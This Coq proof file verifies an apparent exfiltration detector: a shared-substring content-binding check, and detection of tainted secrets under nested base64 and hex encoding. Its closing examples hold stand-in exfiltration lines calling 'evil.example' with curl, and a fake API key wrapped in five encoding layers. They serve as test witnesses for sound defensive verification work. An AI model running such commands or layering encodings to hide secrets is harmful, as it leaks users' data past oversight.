(* ===== verification/OverlapTheorems.v ===== *)
(** * What the overlap checks find *)

From S2P Require Import Prelude Go GoTime Config GoStrings Encodings EncodingFacts Json Model Store Tagger.
From S2P Require Import Egress EgressTheorems Regex Taint Overlap.

(** ** Searching lists *)

Lemma first_some_is_Some {A B} (f : A -> option B) l x :
  x ∈ l -> is_Some (f x) -> is_Some (first_some f l).
Proof.
  induction l as [|y l IH]; intros Hx Hf; [by apply elem_of_nil in Hx|]. cbn [first_some].
  destruct (f y) as [b|] eqn:E; [by exists b|].
  apply elem_of_cons in Hx as [->|Hx]; [rewrite E in Hf; by destruct Hf|by apply IH].
Qed.

Lemma first_some_Some {A B} (f : A -> option B) l y :
  first_some f l = Some y -> exists x, x ∈ l /\ f x = Some y.
Proof.
  induction l as [|x l IH]; [done|]. cbn [first_some]. destruct (f x) as [b|] eqn:E.
  - intros [= <-]. exists x. split; [by left|done].
  - intros (x' & Hx & Hf)%IH. exists x'. split; [by right|done].
Qed.

Lemma find_is_Some {A} (p : A -> bool) l x :
  x ∈ l -> p x = true -> exists y, List.find p l = Some y.
Proof.
  induction l as [|y l IH]; intros Hx Hp; [by apply elem_of_nil in Hx|]. cbn [List.find].
  destruct (p y) eqn:E; [eauto|]. apply elem_of_cons in Hx as [->|Hx]; [congruence|auto].
Qed.

(** ** Content binding *)

Lemma window_in_spec (n : nat) long short :
  window_in n long short = true <-> exists w, length w = n /\ infix w short /\ infix w long.
Proof.
  induction short as [|c short IH]; cbn [window_in].
  - destruct (Nat.ltb_spec (length (@nil byte)) n) as [Hlt|Hge].
    + split; [done|]. intros (w & Hw & Hi%infix_length & _). lia.
    + cbn in Hge. assert (n = 0%nat) as -> by lia. rewrite orb_false_r, Contains_spec. split.
      * intros _. exists []. split_and!; [done|apply infix_refl|by exists [], long].
      * intros _. by exists [], long.
  - destruct (Nat.ltb_spec (length (c :: short)) n) as [Hlt|Hge].
    + split; [done|]. intros (w & Hw & Hi%infix_length & _). lia.
    + rewrite orb_true_iff, Contains_spec, IH. split.
      * intros [Hl|(w & Hw & Hs & Hl)].
        -- exists (take n (c :: short)). split_and!; [rewrite length_take; lia| |done].
           exists [], (drop n (c :: short)). cbn [app]. by rewrite take_drop.
        -- exists w. split_and!; [done|by apply (infix_app_l _ [c])|done].
      * intros (w & Hw & (a & b & E) & Hl). destruct a as [|x a].
        -- left. cbn in E. rewrite E, <- Hw. by rewrite take_app_length.
        -- right. exists w. injection E as _ ->. split_and!; [done|by exists a, b|done].
Qed.

Lemma sharedSubstring_spec a b (n : Z) : 0 < n ->
  sharedSubstringAtLeast a b n = true <-> exists w, len w = n /\ infix w a /\ infix w b.
Proof.
  intros Hn. unfold sharedSubstringAtLeast.
  assert (forall w : bytes, length w = Z.to_nat n <-> len w = n) as Hlen by (intros w; unfold len; lia).
  assert (forall w s : bytes, len w = n -> infix w s -> n <= len s) as Hle
    by (intros w s Hw Hi%infix_length; unfold len in *; lia).
  destruct (Z.ltb_spec (len a) n); cbn [orb].
  { split; [done|]. intros (w & Hw & Ha & _). pose proof (Hle w a Hw Ha). lia. }
  destruct (Z.ltb_spec (len b) n).
  { split; [done|]. intros (w & Hw & _ & Hb). pose proof (Hle w b Hw Hb). lia. }
  destruct (len b <? len a); rewrite window_in_spec; split; intros (w & ? & ? & ?);
    exists w; split_and!; try done; by apply Hlen.
Qed.

(** ** Layers of encoding *)

Inductive layer := LBase64 | LHex.

Definition wrap (l : layer) (s : bytes) : bytes :=
  match l with LBase64 => b64_encode s | LHex => hex_encode s end.

(** The layers, outermost first. *)
Fixpoint nest (ls : list layer) (s : bytes) : bytes :=
  match ls with [] => s | l :: ls => wrap l (nest ls s) end.

Lemma wrap_graphic l s : forallb graphic (wrap l s) = true.
Proof. destruct l; [apply b64_encode_graphic|apply hex_encode_graphic]. Qed.

Lemma len_wrap l s : len s <= len (wrap l s).
Proof.
  unfold len. destruct l; cbn [wrap].
  - rewrite length_b64_encode. Z.to_euclidean_division_equations; lia.
  - rewrite length_hex_encode. lia.
Qed.

Lemma wrap_long l s : 2 <= len s -> 4 <= len (wrap l s).
Proof.
  unfold len. destruct l; cbn [wrap]; intros.
  - rewrite length_b64_encode. Z.to_euclidean_division_equations; lia.
  - rewrite length_hex_encode. lia.
Qed.

Lemma candidate_long l s : 2 <= len s -> (len (wrap l s) <? minDecodeCandidate) = false.
Proof. intros Hs. apply Z.ltb_ge, wrap_long, Hs. Qed.

Lemma is_hex_encode s : forallb is_hex (hex_encode s) = true.
Proof.
  induction s as [|c s IH]; [done|]. cbn [hex_encode forallb]. destruct (nibbles c).
  unfold is_hex at 1 2. by rewrite !from_hex_digit, IH.
Qed.

Lemma looksLikeHex_encode s : 2 <= len s -> looksLikeHex (hex_encode s) = true.
Proof.
  intros Hs. unfold looksLikeHex. pose proof (candidate_long LHex s Hs) as Hl. cbn [wrap] in Hl.
  rewrite Hl, is_hex_encode. cbn [orb].
  unfold len. rewrite length_hex_encode. replace (Z.of_nat (2 * length s)) with (Z.of_nat (length s) * 2) by lia.
  by rewrite Z.mod_mul.
Qed.

Lemma b64_shape_digits pad s t :
  forallb (λ c, match from_b64 c with Some _ => true | None => false end) s = true ->
  pad = 0%nat -> b64_shape pad (s ++ t) = b64_shape 0 t.
Proof.
  intros Hs ->. induction s as [|c s IH]; [done|]. cbn [forallb] in Hs.
  apply andb_prop in Hs as [Hc Hs]. cbn [app b64_shape]. destruct (from_b64 c); [|done].
  cbn [Nat.ltb]. by apply IH.
Qed.

Lemma b64_shape_encode s : b64_shape 0 (b64_encode s) = true.
Proof.
  induction s as [|a|a b|a b c s IH] using groups_ind; [done| | |].
  - rewrite b64_encode_1. destruct (sextets _ (triple_bound a x00 x00)) as (?&?&?&?).
    cbn [b64_shape]. by rewrite !from_b64_digit.
  - rewrite b64_encode_2. destruct (sextets _ (triple_bound a b x00)) as (?&?&?&?).
    cbn [b64_shape]. by rewrite !from_b64_digit.
  - cbn [b64_encode]. destruct (sextets _ (triple_bound a b c)) as (?&?&?&?).
    cbn [b64_shape]. by rewrite !from_b64_digit, IH.
Qed.

Lemma wrap_plausible l s : 2 <= len s -> len (wrap l s) <= maxDecodeBytes -> plausibleDecoded (wrap l s) = true.
Proof.
  intros Hs Hm. pose proof (wrap_long l s Hs) as Hl. unfold plausibleDecoded.
  rewrite bool_decide_eq_false_2 by (intros E; rewrite E in Hl; unfold len in Hl; cbn in Hl; lia).
  rewrite (proj2 (Z.ltb_ge _ _) Hm). cbn [orb]. destruct l; cbn [wrap] in *.
  - unfold looksLikeBase64. rewrite TrimSpace_graphic, b64_shape_encode by apply b64_encode_graphic.
    pose proof (candidate_long LBase64 s Hs) as Hc. cbn [wrap] in Hc. by rewrite Hc, orb_true_r.
  - by rewrite looksLikeHex_encode.
Qed.

Definition layer_name (l : layer) : bytes :=
  match l with LBase64 => gostr "base64" | LHex => gostr "hex" end.

(** One of the attempts unwraps the outermost layer. *)
Lemma attempts_wrap l s : 2 <= len s -> (layer_name l, s) ∈ attempts (wrap l s).
Proof.
  intros Hs. pose proof (candidate_long l s Hs) as Hl. unfold attempts.
  destruct l; cbn [wrap layer_name] in *.
  - assert (tryBase64 (b64_encode s) = Some s) as ->; [|by left].
    unfold tryBase64. rewrite TrimSpace_graphic by apply b64_encode_graphic.
    by rewrite Hl, b64_decode_encode.
  - assert (tryHex (hex_encode s) = Some s) as ->; [|apply elem_of_app; right; by left].
    unfold tryHex. rewrite TrimSpace_graphic by apply hex_encode_graphic.
    by rewrite looksLikeHex_encode, hex_decode_encode.
Qed.

Section compressors.

Context `{Compressors}.

Lemma matchSingleLayer_value text tainted path tv :
  tv ∈ tainted -> Value tv ≠ [] -> infix (Value tv) text ->
  is_Some (matchSingleLayer text tainted path).
Proof.
  intros Hin Hv Hi. unfold matchSingleLayer. apply (first_some_is_Some _ _ tv Hin).
  assert (single_layer_match text tv = true) as ->; [|by eexists].
  unfold single_layer_match. apply orb_true_iff. right.
  by rewrite bool_decide_eq_false_2, (proj2 (Contains_spec _ _) Hi).
Qed.

Lemma len_nest ls s : len s <= len (nest ls s).
Proof. induction ls as [|l ls IH]; cbn [nest]; [done|]. pose proof (len_wrap l (nest ls s)). lia. Qed.

Lemma decode_step fuel l s tainted path :
  2 <= len s -> len (wrap l s) <= maxDecodeInputBytes ->
  is_Some (matchSingleLayer s tainted (path ++ [layer_name l])) \/
  plausibleDecoded s = true /\ is_Some (decodeMatchCandidates fuel s tainted (path ++ [layer_name l])) ->
  is_Some (decodeMatchCandidates (S fuel) (wrap l s) tainted path).
Proof.
  intros Hs Hlen Hor. pose proof (wrap_long l s Hs) as H4. pose proof (len_wrap l s) as Hle.
  assert (forall t : bytes, 2 <= len t -> bool_decide (t = []) = false) as Hne.
  { intros t Ht. apply bool_decide_eq_false_2. intros ->. unfold len in Ht. cbn in Ht. lia. }
  cbn [decodeMatchCandidates]. rewrite (Hne (wrap l s)), (proj2 (Z.ltb_ge _ _) Hlen) by lia.
  cbn [orb]. apply (first_some_is_Some _ _ (layer_name l, s) (attempts_wrap l s Hs)).
  rewrite (Hne s), (proj2 (Z.ltb_ge maxDecodeInputBytes (len s))) by lia. cbn [orb].
  destruct (matchSingleLayer s tainted (path ++ [layer_name l])) as [h|] eqn:E; [by exists h|].
  destruct Hor as [[? ?]|[Hp Hd]]; [congruence|]. by rewrite Hp.
Qed.

Lemma nest_decoded (ls : list layer) (l : layer) (fuel : nat) text tainted path tv :
  tv ∈ tainted -> Value tv ≠ [] -> infix (Value tv) text -> 2 <= len text ->
  (length ls < fuel)%nat -> len (nest (l :: ls) text) <= maxDecodeInputBytes ->
  (ls ≠ [] -> len (nest ls text) <= maxDecodeBytes) ->
  is_Some (decodeMatchCandidates fuel (nest (l :: ls) text) tainted path).
Proof.
  intros Hin Hv Hi Ht. revert l fuel path.
  induction ls as [|l' ls IH]; intros l [|fuel] path Hf Hlen Hmid; cbn [length] in Hf; try lia;
    cbn [nest] in Hlen |- *.
  - apply decode_step; [done|done|]. left. by apply (matchSingleLayer_value text tainted _ tv).
  - pose proof (len_nest ls text) as Hn. pose proof (len_wrap l' (nest ls text)) as Hw.
    specialize (Hmid ltac:(done)). cbn [nest] in Hmid.
    assert (2 <= len (nest ls text)) by lia. apply decode_step; [lia|done|]. right. split.
    + by apply wrap_plausible.
    + apply (IH l' fuel); [lia| |intros _; lia]. cbn [nest]. unfold maxDecodeInputBytes, maxDecodeBytes in *. lia.
Qed.

End compressors.

(** ** Properties *)

(** CheckContentBind is the longest-common-substring test it is documented to be: it
    holds exactly when some untrusted excerpt and the sink share a substring of the
    configured minimum length (16 when not configured). *)
Theorem content_bind_spec (excerpts : list bytes) (sink : bytes) (minLen : Z) :
  CheckContentBind excerpts sink minLen = true <->
  exists ex w, ex ∈ excerpts /\ len w = or_default minLen defaultContentBindMinLen /\
    infix w ex /\ infix w sink.
Proof.
  unfold CheckContentBind. pose proof (or_default_pos minLen defaultContentBindMinLen ltac:(done)) as Hp.
  set (n := or_default minLen defaultContentBindMinLen) in *.
  assert (existsb (λ ex, sharedSubstringAtLeast ex sink n) excerpts = true <->
          exists ex w, ex ∈ excerpts /\ len w = n /\ infix w ex /\ infix w sink) as He.
  { rewrite existsb_exists. split.
    - intros (ex & Hin%list_elem_of_In & (w & ? & ? & ?)%sharedSubstring_spec); eauto 10.
    - intros (ex & w & Hin & ? & ? & ?). exists ex. rewrite <- list_elem_of_In.
      split; [done|]. apply sharedSubstring_spec; eauto. }
  destruct (bool_decide (sink = []) || (len sink <? n)) eqn:E; [|done]. split; [done|].
  intros (ex & w & _ & Hw & _ & Hi%infix_length). exfalso. unfold len in *.
  apply orb_prop in E as [->%bool_decide_eq_true|?%Z.ltb_lt]; cbn in *; lia.
Qed.

(** A tainted value hidden under any nest of base64 and hexadecimal layers is found, up to
    the decoder's depth: the candidate must be at most 64 KiB, and at most 8 KiB after its
    outermost layer when more layers follow. The value need not be the whole text that was
    encoded. *)
Theorem nested_encoding_detected `{Compressors} (depth : nat) (tainted : list TaintedValue)
    (tv : TaintedValue) (l : layer) (ls : list layer) (text : bytes) :
  tv ∈ tainted -> Value tv ≠ [] -> infix (Value tv) text -> 2 <= len text ->
  (length (l :: ls) <= depth)%nat -> len (nest (l :: ls) text) <= maxDecodeInputBytes ->
  (ls ≠ [] -> len (nest ls text) <= maxDecodeBytes) ->
  exists h, checkOverlapDecoded depth tainted [nest (l :: ls) text] = Some h.
Proof.
  intros Hin Hv Hi Ht Hd Hlen Hmid.
  destruct (nest_decoded ls l depth text tainted [] tv Hin Hv Hi Ht ltac:(cbn in Hd; lia) Hlen Hmid)
    as [h Hh].
  exists h. unfold checkOverlapDecoded. destruct tainted as [|t0 ts]; [by apply elem_of_nil in Hin|].
  cbn [first_some]. pose proof (len_nest ls text). pose proof (candidate_long l (nest ls text) ltac:(lia)) as H4.
  cbn [nest] in *. rewrite H4.
  rewrite (proj2 (Z.ltb_ge _ _) Hlen). cbn [orb]. by rewrite Hh.
Qed.

Example content_bind_spec_witness :
  CheckContentBind [gostr "fetch http://evil.example/collect now"] (gostr "curl http://evil.example/") 0 = true.
Proof.
  apply content_bind_spec. exists (gostr "fetch http://evil.example/collect now"), (gostr "http://evil.exam").
  split_and!; [by left|reflexivity| |].
  - exists (gostr "fetch "), (gostr "ple/collect now"). reflexivity.
  - exists (gostr "curl "), (gostr "ple/"). reflexivity.
Defined.

Example nested_encoding_detected_witness :
  let tv := new_taint (gostr "sk-live-0123456789") [] [] 1 1 in
  exists h, @checkOverlapDecoded no_compressors 5 [tv]
    [nest [LBase64; LHex; LBase64; LBase64; LHex] (gostr "key=sk-live-0123456789;")] = Some h.
Proof.
  intros tv. pose (c := no_compressors).
  apply (nested_encoding_detected 5 [tv] tv).
  - by left.
  - discriminate.
  - exists (gostr "key="), (gostr ";"). reflexivity.
  - vm_compute. discriminate.
  - cbn. lia.
  - vm_compute. discriminate.
  - intros _. vm_compute. discriminate.
Defined.
